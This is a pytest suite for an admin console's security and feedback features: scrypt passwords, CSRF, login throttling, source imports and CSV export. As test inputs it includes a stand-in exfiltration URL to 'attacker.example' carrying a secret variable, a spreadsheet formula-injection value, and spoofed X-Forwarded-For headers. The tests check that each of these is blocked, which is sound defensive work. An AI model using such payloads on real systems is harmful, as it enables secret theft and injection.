"""The admin console's rules without a browser (FastAPI's TestClient, a real Redis): passwords, sessions,
CSRF, login throttling, source edits, list imports, and the feedback review (filters, pages, CSV, the
per-day rate and the knowledge gaps). The browser tests (tests/web) cover the same pages end to end."""

from __future__ import annotations

import csv
import io
import re
from dataclasses import replace
from datetime import UTC, datetime

import pytest
from fastapi.testclient import TestClient

from admin.app import create_app
from admin.feedback_view import FeedbackQuery, knowledge_gaps, per_day, question_key, review
from admin.security import (
    MAX_FAILURES,
    ConfigurationError,
    admin_password_hash,
    hash_password,
    verify_password,
)
from core.settings import Settings
from knowledge.cache import PageCache
from knowledge.feedback import FeedbackEntry, FeedbackError, FeedbackLog
from knowledge.library import FetchLimits, Knowledge
from knowledge.sources import SourceRegistry
from knowledge.unanswered import Unanswered, UnansweredLog

PASSWORD = "correct horse battery staple"


def day(text: str) -> float:
    return datetime.fromisoformat(text).replace(tzinfo=UTC).timestamp()


@pytest.fixture
def app(redis_client, redis_server, tmp_path):
    settings = Settings.from_env(
        {
            "KATE_HOME": str(tmp_path),
            "REDIS_URL": redis_server.url,
            "KATE_ADMIN_PASSWORD_HASH": hash_password(PASSWORD),
        }
    )
    knowledge = Knowledge(SourceRegistry(redis_client), PageCache(redis_client), FetchLimits(timeout=1))
    yield create_app(settings, knowledge)
    knowledge.close()


def logged_in(app) -> tuple[TestClient, str]:
    client = TestClient(app)
    response = client.post("/api/login", json={"username": "admin", "password": PASSWORD})
    assert response.status_code == 200
    return client, response.json()["csrf_token"]


def test_passwords_are_salted_scrypt_hashes():
    first, second = hash_password("s3cret!"), hash_password("s3cret!")
    assert first != second and first.startswith("scrypt$")
    assert verify_password("s3cret!", first) and not verify_password("s3cret", first)
    assert not verify_password("s3cret!", "plain-text") and not verify_password("x", "scrypt$1$2$3$bad$bad")


def test_no_default_password(tmp_path):
    with pytest.raises(ConfigurationError, match="KATE_ADMIN_PASSWORD_HASH"):
        admin_password_hash("", production=True, home=tmp_path)
    with pytest.raises(ConfigurationError, match="not a password"):
        admin_password_hash("hunter2", production=False, home=tmp_path)
    hashed, path = admin_password_hash("", production=False, home=tmp_path)  # a laptop: made up once
    assert path.stat().st_mode & 0o777 == 0o600
    password = path.read_text().strip()
    assert len(password) >= 16 and verify_password(password, hashed)
    assert verify_password(password, admin_password_hash("", production=False, home=tmp_path)[0])  # kept


def test_login_logout_and_throttling(app):
    client, token = logged_in(app)
    assert client.get("/api/sources").status_code == 200
    assert client.post("/api/logout", headers={"X-CSRF-Token": token}).status_code == 204
    assert client.get("/api/sources").status_code == 401

    other = TestClient(app)
    for _ in range(MAX_FAILURES):
        assert other.post("/api/login", json={"username": "admin", "password": "guess"}).status_code == 401
    right = {"username": "admin", "password": PASSWORD}
    assert other.post("/api/login", json=right).status_code == 429  # even the right password, for now
    page = other.get("/admin/login")
    login_token = re.search(r'name="login_token" value="([^"]+)"', page.text).group(1)
    form = {"username": "admin", "password": PASSWORD, "login_token": login_token}
    assert other.post("/admin/login", data=form).status_code == 429


def test_login_form_needs_its_own_token(app):
    client = TestClient(app)
    form = {"username": "admin", "password": PASSWORD, "login_token": "forged"}
    assert client.post("/admin/login", data=form, follow_redirects=False).status_code == 403


def test_source_edits_through_the_api(app, redis_client):
    client, token = logged_in(app)
    csrf = {"X-CSRF-Token": token}
    created = client.post(
        "/api/sources", json={"url": "http://127.0.0.1:9/a.html", "title": "A"}, headers=csrf
    )
    assert created.status_code == 201
    sid = created.json()["id"]
    edited = client.patch(f"/api/sources/{sid}", json={"title": "Leave", "language": "fr", "enabled": False},
                          headers=csrf)  # fmt: skip
    assert edited.json()["title"] == "Leave" and edited.json()["enabled"] is False
    assert SourceRegistry(redis_client).get("http://127.0.0.1:9/a.html").language == "fr"
    bad = client.patch(f"/api/sources/{sid}", json={"language": "french!"}, headers=csrf)
    assert bad.status_code == 400 and "language must be a code" in bad.json()["detail"]
    assert client.get("/api/sources/0123456789abcdef").status_code == 404
    dead = client.post(f"/api/sources/{sid}/refresh", headers=csrf).json()
    assert "cannot connect" in dead["error"]  # a dead page: a status with the reason, not a 500
    assert client.delete(f"/api/sources/{sid}", headers=csrf).status_code == 204
    assert client.get("/api/sources").json() == []


def test_import_a_pasted_list(app):
    client, token = logged_in(app)
    text = "# HR pages\nhttp://127.0.0.1:9/a.html\nhttps://127.0.0.1:9/b.html\nftp://127.0.0.1/c\n"
    result = client.post("/api/sources/import", json={"text": text}, headers={"X-CSRF-Token": token}).json()
    assert result["added"] == 2 and len(result["problems"]) == 1 and "ftp" in result["problems"][0]
    yaml_text = "sources:\n  - url: http://127.0.0.1:9/d.html\n    title: D\n    language: ja\n"
    result = client.post(
        "/api/sources/import", json={"text": yaml_text}, headers={"X-CSRF-Token": token}
    ).json()
    assert result == {"added": 1, "problems": []}
    titles = {s["url"]: (s["title"], s["language"]) for s in client.get("/api/sources").json()}
    assert titles["http://127.0.0.1:9/d.html"] == ("D", "ja")


def test_a_console_import_never_fills_variables_from_the_server_environment(app, monkeypatch):
    """An admin must not be able to make Kate fetch (and store, and export) `${REDIS_URL}` or any other
    server secret: the console's import fills no variables at all."""
    monkeypatch.setenv("KATE_TEST_SECRET", "hunter2-secret")
    monkeypatch.setenv("KATE_URL_INTRANET", "http://127.0.0.1:9")
    client, token = logged_in(app)
    text = (
        "sources:\n  - url: http://attacker.example/?k=${KATE_TEST_SECRET}\n"
        "  - url: ${KATE_URL_INTRANET}/a.html\n"
        "  - url: http://127.0.0.1:9/plain.html\n"
    )
    result = client.post("/api/sources/import", json={"text": text}, headers={"X-CSRF-Token": token}).json()
    assert result["added"] == 1 and len(result["problems"]) == 2
    assert all("only filled in the seed file" in p for p in result["problems"])
    stored = client.get("/api/sources").json()
    assert [s["url"] for s in stored] == ["http://127.0.0.1:9/plain.html"]
    export = client.get("/api/sources/export")
    assert "hunter2-secret" not in export.text and "hunter2-secret" not in str(result)


def entry(vote: str, when: str, question: str = "q", **fields) -> FeedbackEntry:
    base = FeedbackEntry(conversation_id="c", vote=vote, kind="qa", question=question, time=day(when))
    return replace(base, **fields)


@pytest.fixture
def feedback(redis_client):
    log = FeedbackLog(redis_client)
    for e in [
        entry("up", "2026-11-01T09:00", "How many days of leave?", language="en", source_url="http://i/leave"),
        entry("down", "2026-11-01T10:00", "Who signs expenses?", language="en", source_url="http://i/expenses"),
        entry("down", "2026-11-03T10:00", "who SIGNS expenses ?!", language="en", source_url="http://i/x"),
        entry("up", "2026-11-03T11:00", "Combien de jours de télétravail ?", language="fr",
              source_url="http://i/teletravail", answer="deux jours"),
        entry("down", "2026-11-04T08:00", "=HYPERLINK(\"http://evil\")", language="en"),
    ]:  # fmt: skip
        log.add(e)
    gaps = UnansweredLog(redis_client)
    gaps.add(Unanswered("Who signs expenses", "unsure", "en", "c", time=day("2026-11-02T12:00")))
    gaps.add(Unanswered("Is there a gym?", "unsure", "en", "c", time=day("2026-11-02T12:00")))
    return log, gaps


def test_feedback_filters_pages_and_newest_first(feedback):
    log, gaps = feedback
    everything = review(log, gaps, FeedbackQuery(per_page=2))
    assert everything.total == 5 and everything.pages == 3
    assert [e.time for e in everything.entries] == [day("2026-11-04T08:00"), day("2026-11-03T11:00")]
    last = review(log, gaps, FeedbackQuery(per_page=2, page=99))
    assert last.page == 3 and len(last.entries) == 1
    assert review(log, gaps, FeedbackQuery(vote="down")).total == 3
    assert review(log, gaps, FeedbackQuery(since="2026-11-02", until="2026-11-03")).total == 2
    assert review(log, gaps, FeedbackQuery(until="2026-11-01")).total == 2  # the whole last day
    assert review(log, gaps, FeedbackQuery(language="fr")).total == 1
    assert review(log, gaps, FeedbackQuery(source="EXPENSES")).total == 1
    assert review(log, gaps, FeedbackQuery(q="deux jours")).total == 1  # the answer is searched too
    for bad in (FeedbackQuery(vote="maybe"), FeedbackQuery(since="yesterday")):
        with pytest.raises(FeedbackError):
            review(log, gaps, bad)


def test_per_day_rate_and_knowledge_gaps(feedback):
    log, gaps = feedback
    entries = list(log.entries())
    days = per_day(entries)
    assert [(d.day, d.up, d.down) for d in days] == [
        ("2026-11-01", 1, 1), ("2026-11-02", 0, 0), ("2026-11-03", 1, 1), ("2026-11-04", 0, 1)
    ]  # fmt: skip
    assert days[0].rate == 0.5 and days[1].rate == 0.0
    assert (
        question_key("who SIGNS expenses ?!") == question_key("Who signs expenses?") == "who signs expenses"
    )
    found = knowledge_gaps(entries, list(gaps.latest()))
    assert [(g.downvotes, g.unanswered) for g in found[:1]] == [(2, 1)]  # one question, three ways
    assert "Is there a gym?" in [g.question for g in found]
    assert all(g.question != "How many days of leave?" for g in found)  # 👍 only: not a gap


def test_feedback_page_and_csv_export_match_the_filters(app, feedback):
    client, _ = logged_in(app)
    page = client.get("/admin/feedback", params={"vote": "down", "language": "en"})
    assert page.status_code == 200
    assert page.text.count("<tr><td><time>") == 3 and "Knowledge gaps" in page.text and "<svg" in page.text
    exported = client.get("/admin/feedback.csv", params={"vote": "down", "language": "en"})
    rows = list(csv.DictReader(io.StringIO(exported.text)))
    assert [r["vote"] for r in rows] == ["down"] * 3
    assert rows[0]["question"].startswith("'=HYPERLINK")  # a formula is text in a spreadsheet
    assert client.get("/admin/feedback", params={"since": "nope"}).status_code == 400
    api = client.get("/api/feedback", params={"vote": "down"}).json()
    assert api["total"] == 3 and api["gaps"][0]["downvotes"] == 2


def test_console_pages_say_when_redis_is_down(app, redis_server):
    client, _ = logged_in(app)
    redis_server.stop()
    try:
        page = client.get("/admin/sources")
        assert page.status_code == 503 and "database is unreachable" in page.text
        api = client.get("/api/sources")
        assert api.status_code == 503 and "unreachable" in api.json()["detail"]
    finally:
        redis_server.start()


def test_source_pages_keep_what_was_typed_when_refused(app):
    client, _ = logged_in(app)
    page = client.get("/admin/sources")
    csrf = re.search(r'name="csrf_token" value="([^"]+)"', page.text).group(1)
    added = client.post("/admin/sources", data={"url": "http://127.0.0.1:9/p.html", "csrf_token": csrf})
    assert added.status_code == 200 and "Source added" in added.text
    sid = client.get("/api/sources").json()[0]["id"]
    form = {"title": "My <b>title</b>", "language": "klingon!", "tags": "a, b", "csrf_token": csrf}
    refused = client.post(f"/admin/sources/{sid}", data=form)
    assert refused.status_code == 400 and "language must be a code" in refused.text
    assert 'value="My &lt;b&gt;title&lt;/b&gt;"' in refused.text and 'value="klingon!"' in refused.text
    confirm = client.post(f"/admin/sources/{sid}/remove", data={"csrf_token": csrf})
    assert "Remove this source?" in confirm.text and client.get("/api/sources").json()  # not yet removed
    client.post(f"/admin/sources/{sid}/remove", data={"csrf_token": csrf, "confirm": "yes"})
    assert client.get("/api/sources").json() == []


def test_forwarded_for_is_read_from_the_right_through_trusted_proxies_only():
    from admin.security import forwarded_client, parse_trusted_proxies

    proxies = parse_trusted_proxies("10.0.0.5, 10.1.0.0/16")
    assert forwarded_client("10.0.0.5", "198.51.100.1, 192.0.2.7", proxies) == "192.0.2.7"
    assert forwarded_client("10.0.0.5", "1.1.1.1, 192.0.2.7, 10.1.2.3", proxies) == "192.0.2.7"  # two proxies
    assert forwarded_client("192.0.2.9", "198.51.100.1", proxies) == "192.0.2.9"  # not from a proxy: ignored
    assert forwarded_client("10.0.0.5", "", proxies) == "10.0.0.5"
    assert forwarded_client("10.0.0.5", "198.51.100.1, not-an-ip", proxies) == "10.0.0.5"
    with pytest.raises(ConfigurationError, match="KATE_TRUSTED_PROXIES"):
        parse_trusted_proxies("10.0.0.5, nginx")


@pytest.mark.parametrize("trusted", ["127.0.0.1", "none"])
def test_a_fake_forwarded_for_per_attempt_does_not_escape_the_login_throttle(
    redis_client, redis_server, tmp_path, monkeypatch, trusted
):
    """The real server (uvicorn, as `kate web` runs it) behind a proxy at 127.0.0.1 that appends the client's
    address, as nginx does. An attacker writes a new address into X-Forwarded-For for every guess; even with
    uvicorn told to trust every proxy (FORWARDED_ALLOW_IPS=*, as Kate's compose file once said), the guesses
    all count against one client, and another employee behind the same proxy can still log in."""
    import socket
    import threading
    import time

    import requests
    import uvicorn

    from admin.server import uvicorn_options

    monkeypatch.setenv("FORWARDED_ALLOW_IPS", "*")
    settings = Settings.from_env(
        {
            "KATE_HOME": str(tmp_path),
            "REDIS_URL": redis_server.url,
            "KATE_ADMIN_PASSWORD_HASH": hash_password(PASSWORD),
            "KATE_TRUSTED_PROXIES": trusted,
            "KATE_REDIS_PREFIX": f"kate-throttle-{trusted}:",
        }
    )
    knowledge = Knowledge(
        SourceRegistry(redis_client, settings.redis_prefix),
        PageCache(redis_client, settings.redis_prefix),
        FetchLimits(timeout=1),
    )
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        port = s.getsockname()[1]
    server = uvicorn.Server(
        uvicorn.Config(create_app(settings, knowledge), **uvicorn_options("127.0.0.1", port))
    )
    thread = threading.Thread(target=server.run, daemon=True)
    thread.start()
    try:
        deadline = time.monotonic() + 20
        while not server.started and time.monotonic() < deadline:
            time.sleep(0.05)
        url = f"http://127.0.0.1:{port}/api/login"
        guess = {"username": "admin", "password": "guess"}
        codes = [
            requests.post(
                url, json=guess, headers={"X-Forwarded-For": f"198.51.100.{i}, 192.0.2.7"}, timeout=10
            ).status_code
            for i in range(MAX_FAILURES + 2)
        ]
        assert codes[:MAX_FAILURES] == [401] * MAX_FAILURES and codes[MAX_FAILURES:] == [429, 429]
        colleague = requests.post(
            url,
            json={"username": "admin", "password": PASSWORD},
            headers={"X-Forwarded-For": "192.0.2.8"},
            timeout=10,
        )
        # behind a trusted proxy another employee is another client; without one, everybody is the proxy
        assert colleague.status_code == (429 if trusted == "none" else 200)
    finally:
        server.should_exit = True
        thread.join(10)
        knowledge.close()
